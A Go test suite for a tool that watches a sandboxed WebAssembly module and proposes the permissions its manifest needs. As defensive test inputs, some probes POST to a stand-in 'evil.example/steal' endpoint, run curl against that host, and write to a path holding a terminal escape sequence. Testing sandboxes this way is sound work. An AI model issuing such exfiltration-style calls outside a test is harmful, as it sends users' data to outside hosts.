package learn

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/station-dev/station/internal/fixture"
	"github.com/station-dev/station/internal/moduletest"
	"github.com/station-dev/station/internal/probe"
	"github.com/station-dev/station/internal/wasmbuild"
	"github.com/station-dev/station/manifest"
)

func write(t *testing.T, dir, name, body string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

// exampleDir copies an example's manifest and its built wasm into a
// directory of the test's.
func exampleDir(t *testing.T, example string, wasm []byte) (string, string) {
	t.Helper()
	root, err := wasmbuild.RepoRoot()
	if err != nil {
		t.Fatal(err)
	}
	man, err := os.ReadFile(filepath.Join(root, example, "module.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	write(t, dir, "module.yaml", string(man))
	write(t, dir, "module.wasm", string(wasm))
	return dir, string(man)
}

// probeDir is the probe (built with tags) under a manifest whose requires
// block is requires (YAML lines under requires:).
func probeDir(t *testing.T, requires string, tags ...string) string {
	t.Helper()
	dir := t.TempDir()
	man := "id: test/probe\nversion: \"1.0.0\"\nwasm: module.wasm\ncommands:\n  - name: run\nrequires:\n  " +
		strings.ReplaceAll(strings.TrimSpace(requires), "\n", "\n  ") + "\n"
	write(t, dir, "module.yaml", man)
	write(t, dir, "module.wasm", string(probe.Wasm(t, tags...)))
	return dir
}

func probeCall(actions ...probe.Action) Call {
	return Call{Command: probe.Command, Input: probe.Run(actions...)}
}

func learn(t *testing.T, o Options) *Report {
	t.Helper()
	tmp := t.TempDir()
	o.TempDir, o.Cache = tmp, wasmbuild.CacheForTest()
	rep, err := Learn(context.Background(), o)
	if err != nil {
		t.Fatal(err)
	}
	if ents, _ := os.ReadDir(tmp); len(ents) > 0 {
		t.Errorf("the throwaway stations were not removed: %v", ents)
	}
	return rep
}

// checkValid feeds the proposal back through manifest.Parse inside the
// module's manifest, and returns what it parsed.
func checkValid(t *testing.T, manifestYAML, proposal string) *manifest.Manifest {
	t.Helper()
	i := strings.Index(manifestYAML, "\nrequires:")
	if i < 0 {
		t.Fatalf("no requires in %s", manifestYAML)
	}
	rest := manifestYAML[i+1:]
	end := len(rest)
	for j, line := range strings.Split(rest, "\n")[1:] {
		if line != "" && line[0] != ' ' && line[0] != '#' {
			end = len(strings.Join(strings.Split(rest, "\n")[:j+1], "\n"))
			break
		}
	}
	doc := manifestYAML[:i+1] + proposal + rest[end:]
	m, err := manifest.Parse("proposed.yaml", []byte(doc))
	if err != nil {
		t.Fatalf("the proposal does not parse inside the manifest: %v\n%s", err, doc)
	}
	return m
}

func TestExamplesProposeTheirManifests(t *testing.T) {
	cases := []struct {
		example string
		lang    bool // built by wasmbuild.ForTestLang (C, Rust)
		calls   []Call
	}{
		{example: "examples/hello", calls: []Call{{Command: "greet", Input: json.RawMessage(`{"name":"Ada"}`)}}},
		{example: "examples/quote", calls: []Call{{Command: "currencies"},
			{Command: "quote", Input: json.RawMessage(`{"customer":"Ada","currency":"EUR","items":[{"description":"a","quantity":1,"unit_cents":100}]}`)}}},
		{example: "examples/stripe-invoicing", calls: []Call{
			{Command: "create-invoice", Input: json.RawMessage(`{"customer":"cus_42"}`)},
			{Command: "summarize", Input: json.RawMessage(`{"text":"A long text."}`)}}},
		{example: "examples/summarize", calls: []Call{{Command: "summarize", Input: json.RawMessage(`{"text":"A long text to summarize."}`)}}},
		{example: "examples/c/hello", lang: true, calls: []Call{{Command: "greet", Input: json.RawMessage(`{"name":"Ada"}`)},
			{Command: "fetch", Input: json.RawMessage(`{"url":"https://api.example.test/hello"}`)}}},
		{example: "examples/rust/hello", lang: true, calls: []Call{{Command: "greet", Input: json.RawMessage(`{"name":"Ada"}`)},
			{Command: "fetch", Input: json.RawMessage(`{"url":"https://api.example.test/hello"}`)}}},
	}
	for _, c := range cases {
		t.Run(c.example, func(t *testing.T) {
			var wasm []byte
			if c.lang {
				wasm = wasmbuild.ForTestLang(t, c.example)
			} else {
				wasm = wasmbuild.ForTest(t, c.example)
			}
			dir, manText := exampleDir(t, c.example, wasm)
			rep := learn(t, Options{Dir: dir, Calls: c.calls})
			want, err := manifest.Load(dir)
			if err != nil {
				t.Fatal(err)
			}
			got := checkValid(t, manText, rep.ProposalYAML)
			if g, w := fmt.Sprintf("%+v", got.Requires), fmt.Sprintf("%+v", want.Requires); g != w {
				t.Errorf("proposal %s\nwant     %s\nYAML:\n%s\ncalls: %+v", g, w, rep.ProposalYAML, rep.Calls)
			}
			if u := rep.Undeclared; len(u.Network)+len(u.Programs)+len(u.Writes)+len(u.Reads) > 0 || u.LLM != nil {
				t.Errorf("used but not declared: %+v", u)
			}
			if u := rep.Unused; len(u.Network)+len(u.Programs)+len(u.Writes)+len(u.Reads) > 0 || u.LLM != nil {
				t.Errorf("declared but not used: %+v", u)
			}
			if !rep.Complete || len(rep.Unnamed) > 0 {
				t.Errorf("complete %v, unnamed %+v", rep.Complete, rep.Unnamed)
			}
		})
	}
}

// A module that reaches a host its manifest does not declare is caught,
// and one it declares but never reaches is named too.
func TestUndeclaredHost(t *testing.T) {
	dir := probeDir(t, "network:\n  allow: [api.example.com, unused.example.org]", probe.ExecTag)
	rep := learn(t, Options{Dir: dir, Calls: []Call{probeCall(
		probe.HTTP("GET", "https://api.example.com/v1"),
		probe.HTTP("POST", "https://evil.example/steal"),
		probe.HTTP("GET", "http://plain.example/"),
		probe.HTTP("GET", "https://odd.example:8443/x"),
	)}})
	if want := []string{"api.example.com", "evil.example", "http://plain.example", "odd.example:8443"}; !slices.Equal(rep.Proposal.Network, want) {
		t.Errorf("proposal network %q, want %q", rep.Proposal.Network, want)
	}
	if want := []string{"evil.example", "http://plain.example", "odd.example:8443"}; !slices.Equal(rep.Undeclared.Network, want) {
		t.Errorf("undeclared %q, want %q", rep.Undeclared.Network, want)
	}
	if want := []string{"unused.example.org"}; !slices.Equal(rep.Unused.Network, want) {
		t.Errorf("unused %q, want %q", rep.Unused.Network, want)
	}
	// The probe imports process_run: the run linked it with nothing
	// allowed, and it used none.
	if len(rep.Proposal.Programs) != 0 || rep.Proposal.SubprocessAny {
		t.Errorf("programs %q", rep.Proposal.Programs)
	}
}

// Programs are recorded, not run; writes anywhere are recorded, not made,
// expressed as the manifest writes them; LLM requests are recorded.
func TestProgramsWritesLLM(t *testing.T) {
	home := t.TempDir()
	notes := filepath.Join(home, "notes")
	if err := os.Mkdir(notes, 0o755); err != nil {
		t.Fatal(err)
	}
	elsewhere := t.TempDir()
	dir := probeDir(t, "network:\n  allow: []\nsubprocess:\n  allow: [git]\nfilesystem_writes: [\"~/notes/*.md\", \"~/old/**\"]\nllm:\n  max_tokens_per_call: 100",
		probe.ExecTag, probe.LLMTag)
	rep := learn(t, Options{Dir: dir, Home: home, Calls: []Call{probeCall(
		probe.Exec("git", "status"),
		probe.Exec("/usr/bin/curl", "https://evil.example"),
		probe.Write(filepath.Join(notes, "today.md"), "hi"),
		probe.Write(filepath.Join(elsewhere, "x.txt"), "hi"),
		probe.Read(filepath.Join(notes, "config.json")),
		probe.Ask("hello").WithMaxTokens(300),
	)}})
	if want := []string{"git", "/usr/bin/curl"}; !slices.Equal(rep.Proposal.Programs, want) {
		t.Errorf("programs %q, want %q", rep.Proposal.Programs, want)
	}
	if want := []string{"/usr/bin/curl"}; !slices.Equal(rep.Undeclared.Programs, want) {
		t.Errorf("undeclared programs %q, want %q", rep.Undeclared.Programs, want)
	}
	wantWrites := []string{"~/notes/today.md", filepath.ToSlash(filepath.Join(elsewhere, "x.txt"))}
	if !slices.Equal(rep.Proposal.Writes, wantWrites) {
		t.Errorf("writes %q, want %q", rep.Proposal.Writes, wantWrites)
	}
	if want := wantWrites[1:]; !slices.Equal(rep.Undeclared.Writes, want) {
		t.Errorf("undeclared writes %q, want %q", rep.Undeclared.Writes, want)
	}
	if want := []string{"~/old/**"}; !slices.Equal(rep.Unused.Writes, want) {
		t.Errorf("unused writes %q, want %q", rep.Unused.Writes, want)
	}
	if want := []string{"~/notes/config.json"}; !slices.Equal(rep.Proposal.Reads, want) {
		t.Errorf("reads %q, want %q", rep.Proposal.Reads, want)
	}
	if rep.Proposal.LLM == nil || rep.Proposal.LLM.MaxTokensPerCall != 300 || rep.Undeclared.LLM == nil {
		t.Errorf("llm %+v, undeclared %+v", rep.Proposal.LLM, rep.Undeclared.LLM)
	}
	for _, p := range []string{filepath.Join(notes, "today.md"), filepath.Join(elsewhere, "x.txt")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
	if _, err := manifest.ParseWith("p.yaml", []byte("id: test/probe\nversion: \"1.0.0\"\nwasm: module.wasm\ncommands:\n  - name: run\n"+rep.ProposalYAML),
		manifest.Options{Home: home}); err != nil {
		t.Errorf("proposal does not parse: %v\n%s", err, rep.ProposalYAML)
	}
}

// Live: each refused host is asked once; an approved one is performed (a
// fixture on 127.0.0.1 through the station's resolve and extra CA) and
// the call runs again; a refused one stays refused but is proposed.
func TestLive(t *testing.T) {
	ca := fixture.NewCA(t)
	srv := ca.TLSServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		// The reply names the next host the probe's second action reaches.
		fmt.Fprint(w, "ok")
	}), "api.example.com")
	addr := srv.Addr
	dir := probeDir(t, "network:\n  allow: []")
	var asked []string
	rep := learn(t, Options{Dir: dir, Live: true,
		Network:  Network{Resolve: []string{"api.example.com:443=" + addr.String()}, ExtraCA: ca.PEM(), AllowPrivate: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}},
		Resolver: refusingResolver{},
		Approve: func(_ context.Context, rule string) (bool, error) {
			asked = append(asked, rule)
			return rule == "api.example.com", nil
		},
		Calls: []Call{probeCall(probe.HTTP("GET", "https://api.example.com/"), probe.HTTP("GET", "https://other.example/"))}})
	if want := []string{"api.example.com", "other.example"}; !slices.Equal(asked, want) {
		t.Errorf("asked %q, want %q", asked, want)
	}
	if srv.Requests() == 0 {
		t.Error("the approved host was not reached")
	}
	if rep.Rounds != 2 {
		t.Errorf("rounds %d, want 2", rep.Rounds)
	}
	if want := []string{"api.example.com", "other.example"}; !slices.Equal(rep.Proposal.Network, want) {
		t.Errorf("proposal %q, want %q", rep.Proposal.Network, want)
	}
}

// A module that tries many hosts and huge paths: the proposal stays
// bounded, a path the audit log cut is not proposed, and control
// characters never reach the proposal unescaped.
func TestHostileModule(t *testing.T) {
	var acts []probe.Action
	for i := range 300 {
		acts = append(acts, probe.HTTP("GET", fmt.Sprintf("https://h%d.example/", i)))
	}
	acts = append(acts, probe.Write("/tmp/"+strings.Repeat("a", 250)+"/"+strings.Repeat("b", 250), "x"),
		probe.Write("/tmp/x\x1b[31m/y", "x"))
	dir := probeDir(t, "network:\n  allow: []", probe.ExecTag)
	rep := learn(t, Options{Dir: dir, Calls: []Call{probeCall(acts...)}})
	if n := len(rep.Proposal.Network); n > MaxEntries {
		t.Errorf("%d network entries, more than %d", n, MaxEntries)
	}
	if rep.Truncated["network"] == 0 && rep.Complete {
		t.Errorf("300 hosts: neither truncated nor incomplete: %+v", rep.Truncated)
	}
	if len(rep.Proposal.Writes) != 0 {
		t.Errorf("writes proposed: %q", rep.Proposal.Writes)
	}
	if strings.ContainsRune(rep.ProposalYAML, 0x1b) {
		t.Error("an escape character reached the proposal")
	}
}

func TestNoCalls(t *testing.T) {
	dir := probeDir(t, "network:\n  allow: []")
	_, err := Learn(context.Background(), Options{Dir: dir, TempDir: t.TempDir()})
	if _, ok := err.(*NoCallsError); !ok {
		t.Fatalf("err %v, want a NoCallsError", err)
	}
	write(t, dir, moduletest.SpecFile, "tests:\n  - command: nope\n")
	_, err = Learn(context.Background(), Options{Dir: dir, TempDir: t.TempDir()})
	if err == nil || !strings.Contains(err.Error(), "tests.yaml:2:") || !strings.Contains(err.Error(), "nope") {
		t.Fatalf("err %v, want one naming tests.yaml:2 and the command", err)
	}
}

// Secrets cannot be learned: module.yaml's are carried over as written,
// with the hosts they are bound to.
func TestSecretsCarriedOver(t *testing.T) {
	dir := probeDir(t, `network:
  allow: [api.stripe.com, api.other.example]
secrets:
  STRIPE_KEY:
    hosts: [api.stripe.com]
    description: "Your Stripe key: sk_test_..."`)
	rep := learn(t, Options{Dir: dir, Calls: []Call{probeCall(probe.HTTP("GET", "https://api.other.example/"))}})
	if want := []string{"api.other.example", "api.stripe.com"}; !slices.Equal(rep.Proposal.Network, want) {
		t.Errorf("network %q, want %q", rep.Proposal.Network, want)
	}
	if want := []string{"api.stripe.com"}; !slices.Equal(rep.Unused.Network, want) {
		t.Errorf("unused %q, want %q", rep.Unused.Network, want)
	}
	m, err := manifest.Parse("p.yaml", []byte("id: test/probe\nversion: \"1.0.0\"\nwasm: module.wasm\ncommands:\n  - name: run\n"+rep.ProposalYAML))
	if err != nil {
		t.Fatalf("%v\n%s", err, rep.ProposalYAML)
	}
	if s := m.Requires.Secrets; len(s) != 1 || s[0].Name != "STRIPE_KEY" || s[0].Description != "Your Stripe key: sk_test_..." || !slices.Equal(s[0].Hosts, []string{"api.stripe.com"}) {
		t.Errorf("secrets %+v", s)
	}
	if !slices.Equal(rep.Proposal.Secrets, []string{"STRIPE_KEY"}) || !slices.ContainsFunc(rep.Notes, func(n string) bool { return strings.Contains(n, "secrets cannot be learned") }) {
		t.Errorf("secrets %q, notes %q", rep.Proposal.Secrets, rep.Notes)
	}
}

// --allow-program: that program is granted (and would run); the
// variables a call passes it are learned, and other programs refused.
func TestAllowProgramLearnsEnv(t *testing.T) {
	dir := probeDir(t, "network:\n  allow: []\nsubprocess:\n  allow: [\"true\"]", probe.ExecTag)
	o := Options{Dir: dir, AllowPrograms: []string{"true"}, TempDir: t.TempDir(), Cache: wasmbuild.CacheForTest(),
		Calls: []Call{probeCall(probe.Exec("true").WithEnv(map[string]string{"GREETING": "hi"}), probe.Exec("git", "log"))}}
	rep, err := Learn(context.Background(), o)
	if err != nil && strings.Contains(err.Error(), "cannot be cut off from the network") && os.Getenv("STATION_REQUIRE_CONFINEMENT") == "" {
		t.Skipf("children cannot be confined here: %v", err)
	}
	if err != nil {
		t.Fatal(err)
	}
	if want := []string{"true", "git"}; !slices.Equal(rep.Proposal.Programs, want) {
		t.Errorf("programs %q, want %q", rep.Proposal.Programs, want)
	}
	if want := []string{"GREETING"}; !slices.Equal(rep.Proposal.Env, want) || !slices.Equal(rep.Undeclared.Env, want) {
		t.Errorf("env %q, undeclared %q, want %q", rep.Proposal.Env, rep.Undeclared.Env, want)
	}
}
